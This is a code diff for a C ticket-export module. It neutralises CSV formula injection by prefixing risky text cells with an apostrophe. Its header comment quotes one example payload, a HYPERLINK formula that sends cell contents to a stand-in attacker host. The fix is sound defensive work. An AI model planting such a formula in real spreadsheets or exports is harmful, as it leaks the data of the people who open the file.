@@ -29,6 +29,17 @@
  * UTC. Fields a ticket does not have (classification of an unprocessed
  * ticket) are empty. NDJSON lines are the JSON of GET /api/tickets/{id}.
  *
+ * CSV files are opened in spreadsheets, which run a cell that starts with
+ * '=', '+', '-', '@', a tab or a CR as a formula: a subject such as
+ * =HYPERLINK("http://evil.example/?"&A1,"click") would run on the support
+ * lead's machine. So every text cell (id, subject, body, source, labels,
+ * model and agent versions, last error) that starts with one of them gets
+ * a leading "'" (OWASP's advice for CSV injection), which spreadsheets show
+ * as text. The numbers the export writes itself (confidence scores,
+ * processing time, attempts) and its timestamps are left as they are: a
+ * number, even a negative one, is read as a number, not a formula. NDJSON
+ * is data for programs and is not changed.
+ *
  * A database error after the first batch cannot change the status any
  * more: the stream then ends with a last line saying the export is
  * incomplete ({"error":...} in NDJSON, "#error,<message>" in CSV). */
@@ -93,19 +104,23 @@ export_free (void *p)
 
 /* ---- formatting ---------------------------------------------------------- */
 
+/* Appends s as one CSV field (after a comma unless it is the first);
+ * text from a ticket is neutralised against formula injection (see the
+ * top), values the export formats itself are not. */
 static bool
-csv_field (tk_buf_t *b, const char *s, bool comma)
+csv_cell (tk_buf_t *b, const char *s, bool comma, bool text)
 {
    bool ok = !comma || tk_buf_append (b, ",", 1);
    if (!s || !*s) {
       return ok;
    }
    size_t len = strlen (s);
+   bool neutralise = text && strchr ("=+-@\t\r", s[0]);
    bool quote = strpbrk (s, "\",\r\n") || s[0] == ' ' || s[len - 1] == ' ';
    if (!quote) {
-      return ok && tk_buf_append (b, s, len);
+      return ok && (!neutralise || tk_buf_append (b, "'", 1)) && tk_buf_append (b, s, len);
    }
-   ok = ok && tk_buf_append (b, "\"", 1);
+   ok = ok && tk_buf_append (b, neutralise ? "\"'" : "\"", neutralise ? 2 : 1);
    for (const char *p = s; ok && *p;) {
       const char *q = strchr (p, '"');
       size_t n = q ? (size_t) (q - p) + 1 : strlen (p);
@@ -113,6 +128,20 @@ csv_field (tk_buf_t *b, const char *s, bool comma)
       p += n;
    }
    return ok && tk_buf_append (b, "\"", 1);
+}
+
+/* A cell of ticket text (neutralised). */
+static bool
+csv_field (tk_buf_t *b, const char *s, bool comma)
+{
+   return csv_cell (b, s, comma, true);
+}
+
+/* A cell the export formats itself: a number, a time, true/false. */
+static bool
+csv_value (tk_buf_t *b, const char *s, bool comma)
+{
+   return csv_cell (b, s, comma, false);
 }
 
 static void
@@ -132,7 +161,7 @@ csv_time (tk_buf_t *b, int64_t ms)
    if (ms && !tk_time_format_iso (ms, iso, sizeof iso)) {
       iso[0] = '\0';
    }
-   return csv_field (b, iso, true);
+   return csv_value (b, iso, true);
 }
 
 static bool
@@ -141,7 +170,7 @@ csv_row (tk_buf_t *b, const tk_ticket_t *t)
    char num[64];
    bool ok = csv_field (b, t->id, false) && csv_field (b, t->subject, true) &&
              csv_field (b, t->body, true) && csv_field (b, t->source, true) &&
-             csv_field (b, t->processed ? "true" : "false", true) &&
+             csv_value (b, t->processed ? "true" : "false", true) &&
              csv_time (b, t->created_at) && csv_time (b, t->updated_at);
    if (!ok) {
       return false;
@@ -162,15 +191,15 @@ csv_row (tk_buf_t *b, const tk_ticket_t *t)
       double conf[3] = {t->confidence.topic, t->confidence.sentiment, t->confidence.priority};
       for (int i = 0; ok && i < 3; i++) {
          format_number (conf[i], num, sizeof num);
-         ok = csv_field (b, num, true);
+         ok = csv_value (b, num, true);
       }
       snprintf (num, sizeof num, "%lld", (long long) t->metadata.processing_time_ms);
       ok = ok && csv_time (b, t->metadata.processed_at) &&
-           csv_field (b, t->metadata.model_version, true) && csv_field (b, num, true) &&
+           csv_field (b, t->metadata.model_version, true) && csv_value (b, num, true) &&
            csv_field (b, t->metadata.agent_version, true);
    }
    snprintf (num, sizeof num, "%d", (int) t->processing_attempts);
-   return ok && csv_field (b, num, true) && csv_field (b, t->last_error, true) &&
+   return ok && csv_value (b, num, true) && csv_field (b, t->last_error, true) &&
           tk_buf_append (b, "\r\n", 2);
 }
 
